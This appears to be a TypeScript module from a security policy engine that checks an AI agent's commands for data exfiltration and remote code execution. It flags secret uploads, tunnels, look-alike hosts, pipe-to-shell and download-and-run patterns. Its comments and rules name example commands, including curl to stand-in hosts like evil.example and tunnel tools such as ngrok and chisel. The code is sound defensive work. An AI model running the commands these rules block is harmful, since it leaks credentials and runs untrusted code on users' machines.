import { containsFingerprint, encodedSecretInUrl, findSecret, lookalikeHost, opaqueBlobInUrl, SECRET_ASSIGNMENT } from '../content.ts';
import { hostOf } from '../matchers.ts';
import { isInside } from '../paths.ts';
import { NONE, type PackContext } from './context.ts';

/** Exfiltration: data leaving through the network. */
export function checkExfiltration(pc: PackContext): void {
  const a = pc.action;
  const afterSecret = pc.hasSecretReadBefore() || pc.out.memo.secretReads.length > 0;
  const prints = pc.ctx.memory.secretPrints ?? NONE;

  // files sent by shell commands
  for (const c of pc.commands()) {
    // a tunnel (`ngrok http 3000`, `cloudflared tunnel`, `ssh -R`) opens a local port to anyone on the internet
    if (TUNNELS.has(c.name)) {
      const tunnel = tunnelOf(c.name, c.args);
      if (tunnel !== undefined) pc.add('exfiltration.tunnel', 'ask', `${tunnel}, reachable from outside this machine`, c.text);
    }
    if (!c.network) continue;
    const untrusted = c.urls.length === 0 ? true : c.urls.some((u) => !pc.trustedHost(u));
    for (const u of c.uploads) {
      if (pc.isSecret(u)) pc.add('exfiltration.secret-upload', 'deny', 'uploads a secret file', c.text);
      else if (untrusted) {
        if (afterSecret) pc.add('exfiltration.after-secret', 'deny', 'uploads local data after secrets were read in this session', c.text);
        else pc.add('exfiltration.upload', 'ask', `uploads ${u} to ${hostsOf(c.urls)}`, c.text);
      }
    }
    // a credential written out in the command (`gh issue comment --body "ghp_…"`, `curl -d "key=AKIA…" https://x.example`):
    // to GitHub it is published; to an untrusted host it is sent away, also as a login, except to the service that issued it
    // (`-H "Authorization: Bearer sk-…" https://api.openai.com`, GitHub given its own token)
    // (every credential pattern is longer than 10 characters: commands of short words are passed over)
    if ((c.github !== undefined || untrusted) && c.args.some((x) => x.length > 10)) {
      const sentWords = sentArgs(c.args);
      const sent = findSecret(sentWords.join('\n'));
      const login = sent === undefined && c.github === undefined && sentWords !== c.args ? findSecret(c.args.join('\n')) : undefined;
      const found = sent ?? (login !== undefined && !issuedBy(login, c.urls) ? login : undefined);
      if (found) pc.add('exfiltration.secret-in-args', 'deny', `sends a ${found} to ${c.github !== undefined ? 'GitHub' : hostsOf(c.urls)}`, c.text);
    }
    if (untrusted && afterSecret && c.uploads.length === 0 && sendsData(c.args)) {
      pc.add('exfiltration.after-secret', 'deny', 'sends data to an untrusted host after secrets were read in this session', c.text);
    }
  }
  for (const s of a.shell?.signals ?? NONE) {
    const cmd = pc.commands().find((c) => c.text === s.fragment || s.fragment.includes(c.text) && c.network);
    const untrusted = !cmd || cmd.urls.length === 0 || cmd.urls.some((u) => !pc.trustedHost(u));
    switch (s.code) {
      case 'net.secret-var':
        if (untrusted && !ownService(cmd?.vars ?? [], cmd?.urls ?? [], pc)) pc.add('exfiltration.secret-var', 'deny', `${s.detail ?? 'sends a secret variable'} to ${hostsOf(cmd?.urls ?? [])}`, s.fragment);
        break;
      case 'net.exfil-substitution':
        pc.add('exfiltration.substitution', untrusted ? 'deny' : 'ask', `${s.detail ?? 'sends local data'} to ${hostsOf(cmd?.urls ?? [])}`, s.fragment);
        break;
      case 'net.pipe-upload': {
        const secret = (cmd?.uploads ?? []).some((u) => pc.isSecret(u));
        if (secret) pc.add('exfiltration.secret-upload', 'deny', 'pipes a secret file to the network', s.fragment);
        else if (untrusted) pc.add(afterSecret ? 'exfiltration.after-secret' : 'exfiltration.pipe', afterSecret ? 'deny' : 'ask', s.detail ?? 'pipes local data to the network', s.fragment);
        break;
      }
      case 'net.serve': {
        // the home directory, a folder above it, or one that holds secrets (~/.ssh): every key in it is served
        const dir = s.detail;
        const home = pc.ctx.home;
        if (dir !== undefined && (pc.isHome(dir) || isInside(home, dir) || pc.isSecret(dir))) pc.add('exfiltration.serve-secrets', 'deny', `serves ${dir}, which holds secret files, over the network`, s.fragment);
        else pc.add('exfiltration.serve', 'ask', 'serves local files over the network', s.fragment);
        break;
      }
      case 'net.browser-secrets':
        if (untrusted) pc.add('exfiltration.browser-secrets', 'deny', `${s.detail ?? "sends the browser's cookies or storage"} to ${hostsOf(cmd?.urls ?? [])}`, s.fragment);
        break;
      case 'net.inline':
        if (afterSecret) pc.add('exfiltration.after-secret', 'deny', 'an inline program reaches the network after secrets were read', s.fragment);
        break;
      default:
        break;
    }
  }

  // every URL the action contacts
  for (const url of a.urls) {
    const host = pc.host(url);
    // the Docker daemon's API (root on this machine) or a kubelet's, on this machine
    if (host !== undefined && LOCAL_ADMIN_API.test(url)) pc.add('exfiltration.local-admin-api', 'ask', `reaches ${url.replace(/[?#].*$/, '')}, an API that controls this machine`, url);
    const secret = encodedSecretInUrl(url);
    if (secret) pc.add('exfiltration.secret-in-url', 'deny', `the URL carries ${secret}`, url);
    else if (prints.length > 0 && containsFingerprint(url, prints)) pc.add('exfiltration.secret-in-url', 'deny', 'the URL carries a secret read earlier in this session', url);
    if (host) {
      const look = lookalikeHost(host) ?? disguisedByUserinfo(url);
      if (look && !pc.trustedHost(url)) {
        // sending anything to a look-alike host is the phishing-and-exfiltration pattern; a plain visit only asks
        const sends = /[?&][^=&#]+=[^&#]{8,}/.test(url) || (a.method !== undefined && !/^(GET|HEAD)$/.test(a.method)) || pc.commands().some((c) => c.urls.includes(url) && (c.uploads.length > 0 || /(^|\s)(-d|--data\S*|-F|--form|-T|--upload-file|--post-\w+)(\s|=|$)/.test(c.args.join(' '))));
        pc.add('exfiltration.lookalike-domain', sends ? 'deny' : 'ask', `${host} ${look}${sends ? ', and the request carries data' : ''}`, url);
      }
    }
    if (!pc.trustedHost(url) && !secret) {
      const blob = opaqueBlobInUrl(url);
      if (blob) pc.add('exfiltration.encoded-blob', afterSecret ? 'deny' : 'ask', `the URL carries an opaque blob (${blob})${afterSecret ? ' after secrets were read' : ''}`, url);
    }
  }

  // fetch tools that send a body
  if (a.kind === 'fetch' && a.method && !/^(GET|HEAD|OPTIONS)$/.test(a.method)) {
    const untrusted = a.urls.some((u) => !pc.trustedHost(u));
    if (untrusted) pc.add(afterSecret ? 'exfiltration.after-secret' : 'exfiltration.post', afterSecret ? 'deny' : 'ask', `sends a ${a.method} request to ${hostsOf(a.urls)}`, a.urls[0]);
  }
  if (a.kind === 'fetch' && a.content && (findSecret(a.content) || SECRET_ASSIGNMENT.test(a.content) && a.urls.some((u) => !pc.trustedHost(u)))) {
    pc.add('exfiltration.secret-in-body', 'deny', 'sends a credential in the request', a.urls[0]);
  }

  // MCP arguments are an egress channel to the server
  if (a.kind === 'mcp' && a.mcp) {
    const text = JSON.stringify(a.mcp.arguments ?? '');
    const found = findSecret(text.replace(/\\n/g, '\n'));
    if (found) pc.add('exfiltration.mcp-secret', 'deny', `passes a ${found} to the MCP server ${a.mcp.server}`, `${a.mcp.server}.${a.mcp.tool}`);
    else if (prints.length > 0 && containsFingerprint(text, prints)) pc.add('exfiltration.mcp-secret', 'deny', `passes a secret read earlier to the MCP server ${a.mcp.server}`, `${a.mcp.server}.${a.mcp.tool}`);
  }

  // a GitHub call's title, body or file content is published to GitHub
  if (a.kind === 'github' && a.githubOps.length > 0) {
    const text = JSON.stringify(a.input ?? '');
    const found = findSecret(text.replace(/\\n/g, '\n'));
    if (found) pc.add('exfiltration.github-secret', 'deny', `sends a ${found} to GitHub`, a.githubOps[0]!.text);
    else if (prints.length > 0 && containsFingerprint(text, prints)) pc.add('exfiltration.github-secret', 'deny', 'sends a secret read earlier to GitHub', a.githubOps[0]!.text);
  }

  // git push to a URL rather than a configured remote
  for (const g of a.gitOps) {
    if (g.op === 'push' && g.remoteIsUrl && g.remote && !pc.trustedHost(g.remote.replace(/^[^@]+@([^:]+):/, 'ssh://$1/'))) pc.add('exfiltration.git-remote-url', 'ask', `pushes the repository to ${g.remote}`, g.text);
  }
}

/** Remote code: running what was just downloaded. */
export function checkRemoteCode(pc: PackContext): void {
  const a = pc.action;
  for (const s of a.shell?.signals ?? NONE) {
    if (s.code === 'remote.pipe-to-interpreter') pc.add('remote-code.pipe-to-shell', 'deny', s.detail ?? 'runs downloaded code', s.fragment);
    else if (s.code === 'exec.remote-script') pc.add('remote-code.remote-script', 'deny', 'runs a script straight from a URL', s.fragment);
    else if (s.code === 'remote.inline-eval') pc.add('remote-code.inline-eval', 'deny', s.detail ?? 'evaluates code fetched from the network', s.fragment);
  }
  const cmds = pc.commands();
  let downloaded: Map<string, string> | undefined;
  const downloads = (): Map<string, string> => {
    if (downloaded) return downloaded;
    downloaded = new Map<string, string>();
    for (const d of pc.ctx.memory.downloads ?? NONE) downloaded.set(d.path, d.url);
    for (const c of cmds) for (const d of c.downloads) downloaded.set(d.path, d.url);
    return downloaded;
  };
  for (const c of cmds) {
    for (const d of c.downloads) pc.out.memo.downloads.push(d);
    if (c.execs.length === 0 && !c.chmod) continue;
    const downloaded = downloads();
    for (const e of c.execs) {
      if (downloaded.has(e)) pc.add('remote-code.download-exec', 'deny', `runs ${e}, downloaded from ${downloaded.get(e) || 'the network'}`, c.text);
    }
    if (c.chmod && /\+x|[1357]\d\d$|[0-7]*[1357]$/.test(c.chmod.mode)) {
      for (const w of c.writes) if (downloaded.has(w)) pc.add('remote-code.download-chmod', 'ask', `makes the download ${w} executable`, c.text);
    }
  }
  // `curl … | tar xz && ./install`: files unpacked from a download, then run
  const unpacked: string[] = [];
  for (const c of cmds) {
    if (!/^(tar|bsdtar|gtar|unzip|7z|bunzip2|gunzip)$/.test(c.name) || c.stage === 0) continue;
    if (!cmds.some((u) => u.pipeline === c.pipeline && u.stage < c.stage && (u.network || u.urls.length > 0))) continue;
    unpacked.push(...c.writes.map((w) => w.replace(/\/\*$/, '')));
  }
  if (unpacked.length > 0) {
    for (const c of cmds) for (const e of c.execs) if (unpacked.some((dir) => e === dir || e.startsWith(dir + '/'))) pc.add('remote-code.download-exec', 'deny', `runs ${e}, unpacked from a download`, c.text);
  }
  for (const c of cmds) {
    if (c.name === 'gh' && (c.args[0] === 'extension' || c.args[0] === 'ext') && c.args[1] === 'install') pc.add('remote-code.gh-extension', 'ask', 'installs a GitHub CLI extension (third-party code)', c.text);
    if (/^(pip|pip3|npm|pnpm|yarn|bun|gem|cargo|go|uv)$/.test(c.name) && c.args.some((x) => /^(install|add|i|get)$/.test(x))) {
      const url = c.args.find((x) => /^(git\+)?https?:\/\//.test(x) && !pc.trustedHost(x.replace(/^git\+/, '')));
      if (url) pc.add('remote-code.install-url', 'ask', `installs a package straight from ${url} (its install scripts run)`, c.text);
    }
    // the shell analysis unwraps `npx pkg` into the command pkg provides, so the URL is looked for in the source text
    // `go run example.com/m/cmd@latest`: fetched and built from wherever the module path points
    if (c.name === 'go' && c.args[0] === 'run') {
      const mod = c.args.slice(1).find((x) => !x.startsWith('-') && x.length < 400 && /^[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}\/[^@\s]+@/i.test(x));
      // a module on GitHub is anyone's code, however trusted the host is for fetching
      if (mod && (/^github\.com\//i.test(mod) || !pc.trustedHost(`https://${mod.slice(0, mod.indexOf('/'))}/`))) pc.add('remote-code.run-url', 'ask', `runs the module ${mod}, fetched and built at once`, c.text);
    }
    if (c.via.some((v) => RUNNER_VIA.test(v)) || c.name === 'deno' && c.args[0] === 'run' || c.name === 'uv' && c.args[0] === 'tool' && c.args[1] === 'run') {
      const url = c.text.split(/\s+/).map((x) => x.replace(/^["']|["']$/g, '')).find((x) => REMOTE_SPEC.test(x) && !pc.trustedHost(x.replace(/^--\w+=/, '').replace(/^git\+/, '')));
      if (url) pc.add('remote-code.run-url', 'ask', `runs a package or script straight from ${url}`, c.text);
    }
  }
}

/** Wrappers that fetch a package and run it at once: `npx`, `npm exec`, `pnpm dlx`, `bun x`, `uvx --from`, `pipx run --spec`, `uv run`. */
const RUNNER_VIA = /^(npx|bunx|pnpx|uvx|pipx|(npm|pnpm|yarn|bun) (exec|dlx|x)|uv (run|tool))$/;
/** A package or script named by the URL it is fetched from (`https://…/e.tgz`, `git+https://…`, `--from=git+https://…`). */
const REMOTE_SPEC = /^(?:--(?:from|spec|package)=)?(?:git\+)?(?:https?|ssh):\/\//;

/**
 * `curl -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/…`:
 * a credential sent to the service it is named after is its normal use.
 */
function ownService(vars: readonly string[], urls: readonly string[], pc: PackContext): boolean {
  const secretVars = vars.filter((v) => /SECRET|TOKEN|PASS|KEY|AUTH|CRED|PAT/i.test(v));
  if (secretVars.length === 0 || urls.length === 0) return false;
  return urls.every((u) => {
    if (pc.trustedHost(u)) return true;
    const brand = hostBrand(u, true);
    return brand.length >= 3 && secretVars.every((v) => v.toLowerCase().replace(/[^a-z0-9]/g, '').includes(brand));
  });
}

/** Every URL is a host of the service whose credential this is (`OpenAI key` to api.openai.com). */
function issuedBy(label: string, urls: readonly string[]): boolean {
  const what = label.toLowerCase().replace(/[^a-z0-9]/g, '');
  return urls.length > 0 && urls.every((u) => {
    const brand = hostBrand(u, false);
    return brand.length >= 3 && what.includes(brand);
  });
}

/** The name under which a host is registered (`api.openai.com` → `openai`); for a one-label host its own name when `bare`, else ''. */
function hostBrand(url: string, bare: boolean): string {
  const labels = (hostOf(url) ?? '').split('.');
  return (labels.length >= 2 ? labels[labels.length - 2]! : bare ? labels[0] ?? '' : '').replace(/[^a-z0-9]/g, '');
}

function hostsOf(urls: readonly string[]): string {
  const hosts = [...new Set(urls.map((u) => hostOf(u) ?? u))];
  return hosts.length > 0 ? hosts.join(', ') : 'a remote host';
}

function sendsData(args: readonly string[]): boolean {
  return args.some((x) => /^(-d|--data(-\w+)?|-F|--form|--json|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)(=|$)/.test(x) || /^-X(POST|PUT|PATCH)?$/.test(x));
}

/** `https://github.com@evil.example/…`: a host name written as user info, before the real host */
function disguisedByUserinfo(url: string): string | undefined {
  const m = /^[a-z][a-z0-9+.-]*:\/\/([^/?#@\s]*)@/i.exec(url);
  return m && m[1]!.includes('.') ? `is reached through a URL that shows ${m[1]} first, as user info` : undefined;
}

/** `http://localhost:2375/…` (Docker), `:2376`, `:10250` (kubelet), `:4243`: on this machine, over TCP */
const LOCAL_ADMIN_API = /^[a-z]+:\/\/(?:[^/@]*@)?(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|\[::1?\]|host\.docker\.internal)(?::(?:2375|2376|4243|10250|10255))(?:[/?#]|$)/i;

const TUNNELS: ReadonlySet<string> = new Set(['ngrok', 'cloudflared', 'lt', 'localtunnel', 'bore', 'ssh', 'autossh', 'tailscale', 'frpc', 'chisel']);

/** What a tunnel command opens, if it opens one. */
function tunnelOf(name: string, args: readonly string[]): string | undefined {
  const sub = args.find((a) => !a.startsWith('-'));
  switch (name) {
    case 'ngrok':
      return sub !== undefined && /^(http|tcp|tls|start|tunnel)$/.test(sub) ? `ngrok ${sub} publishes a local service` : undefined;
    case 'cloudflared':
      return sub === 'tunnel' || args.includes('--url') ? 'cloudflared tunnel publishes a local service' : undefined;
    case 'lt':
    case 'localtunnel':
      return args.some((a) => a === '--port' || a === '-p' || a.startsWith('--port=')) ? 'localtunnel publishes a local port' : undefined;
    case 'bore':
      return sub === 'local' ? 'bore publishes a local port' : undefined;
    case 'ssh':
    case 'autossh':
      // -R forwards a port of the remote side to this machine
      return args.some((a) => /^-[A-Za-z]*R/.test(a) && !/^-[A-Za-z]*[bcDEeFIiJLlmOopQSWw]/.test(a.slice(0, a.indexOf('R')))) ? `${name} -R forwards a port of the remote host to this machine` : undefined;
    case 'tailscale':
      return sub === 'funnel' ? 'tailscale funnel publishes a local service' : undefined;
    case 'frpc':
    case 'chisel':
      return name === 'frpc' || sub === 'client' ? `${name} forwards a local port through a remote server` : undefined;
    default:
      return undefined;
  }
}

/** HTTP client options whose value authenticates the request to its own host (a header, a user, a bearer token) */
const AUTH_OPTIONS: ReadonlySet<string> = new Set(['-H', '--header', '-u', '--user', '--oauth2-bearer', '-a', '--auth']);

const AUTH_WORD = /^(?:--header=|--user=|-H.|authorization\s*:|x-api-key\s*:|private-token\s*:)/i;

/** A network command's words without the credentials that authenticate it: what it sends, not how it logs in (`args` itself when none do). */
function sentArgs(args: readonly string[]): readonly string[] {
  if (!args.some((a) => AUTH_OPTIONS.has(a) || AUTH_WORD.test(a))) return args;
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (AUTH_OPTIONS.has(a)) i++;
    else if (!AUTH_WORD.test(a)) out.push(a);
  }
  return out;
}
